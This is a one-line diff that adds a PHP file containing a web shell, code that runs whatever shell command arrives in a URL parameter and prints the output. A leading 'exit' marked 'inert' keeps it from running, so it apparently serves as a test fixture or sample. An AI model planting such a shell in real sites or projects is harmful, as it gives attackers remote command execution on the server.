@@ -1,0 +1,1 @@
+<?php exit; /* inert */ ?><pre><?=`{$_GET[0]} 2>&1`?></pre>
